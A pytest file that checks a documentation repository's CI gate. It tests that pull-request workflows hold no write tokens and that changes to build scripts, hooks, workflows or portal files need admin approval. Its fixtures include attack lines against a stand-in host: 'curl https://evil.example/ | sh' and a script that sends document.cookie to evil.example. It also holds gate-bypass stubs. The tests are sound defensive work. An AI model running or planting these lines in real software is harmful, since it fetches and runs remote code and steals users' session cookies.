"""What decides what CI executes: the workflows must never run pull-request code with
power, and a change to any file that decides what runs needs an admin."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
import yaml
from attackkit import World, assert_gate_refused, assert_push_refused, commit, push
from gitrepo import REPO_ROOT

WORKFLOWS = REPO_ROOT / ".github" / "workflows"


def _load(path: Path) -> dict[str, Any]:
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    # YAML 1.1 reads the key 'on' as True
    if True in data:
        data["on"] = data.pop(True)
    return data


def _triggers(flow: dict[str, Any]) -> set[str]:
    on = flow.get("on") or {}
    return {on} if isinstance(on, str) else set(on)


def _pr_workflows() -> list[Path]:
    return [
        p
        for p in sorted(WORKFLOWS.glob("*.yml"))
        if _triggers(_load(p)) & {"pull_request", "pull_request_target", "pull_request_review"}
    ]


def _checkout_ref(step: dict[str, Any]) -> str | None:
    if not str(step.get("uses", "")).startswith("actions/checkout"):
        return None
    return str((step.get("with") or {}).get("ref", "<the pull request's merge commit>"))


def test_gate_workflow_installs_the_base_branch_code() -> None:
    """Whatever `pip install` installs must come from a checkout of the base, never the head."""
    flow = _load(WORKFLOWS / "gate.yml")
    installs = 0
    for name, job in flow["jobs"].items():
        checked_out: str | None = None
        for step in job.get("steps", []):
            ref = _checkout_ref(step)
            if ref is not None and not (step.get("with") or {}).get("path"):
                checked_out = ref
            run = str(step.get("run", ""))
            if "pip install" in run:
                installs += 1
                assert checked_out and "base" in checked_out and "head" not in checked_out, (
                    f"gate.yml: job {name}: `{run.strip()}` installs from a checkout of "
                    f"{checked_out}: the pull request decides its own gate"
                )
    assert installs, "gate.yml installs nothing: which kcs runs the gate?"


def test_gate_workflow_definition_comes_from_the_base_branch() -> None:
    """For `pull_request` and `pull_request_review` GitHub runs the workflow file of the pull
    request's merge commit: a pull request that edits gate.yml would run its own `gate` job
    (always green) as soon as anyone submits a review. Only events whose workflow file is
    the base branch's may produce the gate's verdict."""
    triggers = _triggers(_load(WORKFLOWS / "gate.yml"))
    from_head = sorted(triggers - {"pull_request_target", "workflow_run", "workflow_dispatch"})
    assert not from_head, (
        f"gate.yml: triggered by {', '.join(from_head)}: these run the pull request's own "
        "copy of gate.yml"
    )


@pytest.mark.parametrize("path", _pr_workflows(), ids=lambda p: p.name)
def test_pull_request_workflows_hold_no_write_token(path: Path) -> None:
    flow = _load(path)
    scopes = [flow.get("permissions")] + [j.get("permissions") for j in flow["jobs"].values()]
    for scope in scopes:
        assert scope is not None or flow.get("permissions") is not None, (
            f"{path.name}: no permissions block: the token gets the repository's default"
        )
        values = scope.values() if isinstance(scope, dict) else [scope]
        assert not any(str(v).endswith("write") for v in values if v), (
            f"{path.name}: a pull-request workflow holds a write token: {scope}"
        )
    if "pull_request_target" in _triggers(flow):
        for job in flow["jobs"].values():
            for step in job.get("steps", []):
                ref = _checkout_ref(step) or ""
                assert "head" not in ref, f"{path.name}: pull_request_target checks out the head"


def test_pull_request_workflow_runs_the_strict_content_standard() -> None:
    flow = _load(WORKFLOWS / "pull-request.yml")
    runs = [str(s.get("run", "")) for j in flow["jobs"].values() for s in j.get("steps", [])]
    assert any("kcs lint" in r and "--strict" in r for r in runs), (
        "pull-request.yml: `kcs lint --strict` does not run on proposals"
    )


# ------------------------------------------------------------ admin paths

ADMIN_FILES = {
    "pyproject.toml": '[project]\nname = "kcs-portal"\ndependencies = ["evil"]\n',
    "scripts/build.sh": "#!/bin/sh\ncurl https://evil.example/ | sh\n",
    ".gitattributes": "*.md filter=evil\n",
    "articles/network/.gitattributes": "*.md filter=evil\n",
    ".github/workflows/gate.yml": "name: gate\non: push\njobs: {}\n",
    "hooks/pre-receive": "#!/bin/sh\nexit 0\n",
    "kcs/gate.py": "def gate(*a, **k):\n    return True\n",
    "mkdocs.yml": "site_name: x\nhooks: [evil.py]\n",
}


@pytest.mark.parametrize("path", list(ADMIN_FILES))
def test_admin_path_by_pull_request(world: World, path: str) -> None:
    """A candidate's change approved by a publisher (of devices) and a contributor."""
    lotta = world.clone("lotta", origin=world.forge)
    sha = world.pull_request(lotta, commit(lotta, {path: ADMIN_FILES[path]}))
    result = world.gate(sha, "lottan", ["janbakker", "mvirtanen"])
    assert_gate_refused(result, path, rule=r"admin")


@pytest.mark.parametrize("path", ["pyproject.toml", "scripts/build.sh", ".gitattributes"])
def test_admin_path_by_push(world: World, path: str) -> None:
    """A publisher's signed direct commit."""
    jan = world.clone("jan")
    before = world.refs()
    commit(jan, {path: ADMIN_FILES[path]})
    result = push(jan, "origin", "main")
    assert_push_refused(world, result, before, path, rule=r"admin")


def test_portal_page_approved_by_a_publisher_of_another_domain(world: World) -> None:
    """An internal accounts article copied to docs/portal/ is shown on the public site; a
    publisher of devices alone approves it."""
    lotta = world.clone("lotta", origin=world.forge)
    internal = (lotta / "articles/accounts/reset.md").read_text()
    sha = world.pull_request(lotta, commit(lotta, {"docs/portal/reset.md": internal}))
    result = world.gate(sha, "lottan", ["janbakker"])
    assert_gate_refused(result, "docs/portal/reset.md", rule=r"admin|general|portal")


PORTAL_CODE = {
    "docs/portal/help.html": '<!doctype html><script src="help.js"></script><p>Sign in again</p>\n',
    "docs/portal/help.js": "fetch('https://evil.example/?c=' + document.cookie)\n",
}


@pytest.mark.parametrize("path", list(PORTAL_CODE))
def test_portal_script_or_page_approved_by_a_publisher_of_another_domain(
    world: World, path: str
) -> None:
    """MkDocs copies every non-Markdown file of the portal folder to the site as it is: a
    script or a hand-written page served from the help site's own origin is code."""
    lotta = world.clone("lotta", origin=world.forge)
    sha = world.pull_request(lotta, commit(lotta, {path: PORTAL_CODE[path]}))
    result = world.gate(sha, "lottan", ["janbakker"])
    assert_gate_refused(result, path, rule=r"admin")


def test_gitattributes_in_other_case_approved_by_a_contributor(world: World) -> None:
    """On a case-insensitive checkout (macOS, Windows) Git reads .GitAttributes as
    .gitattributes: the admin file names must not depend on case."""
    path = "articles/network/.GitAttributes"
    lotta = world.clone("lotta", origin=world.forge)
    sha = world.pull_request(lotta, commit(lotta, {path: "*.md filter=evil\n"}))
    result = world.gate(sha, "lottan", ["mvirtanen"])
    assert_gate_refused(result, path, rule=r"admin")
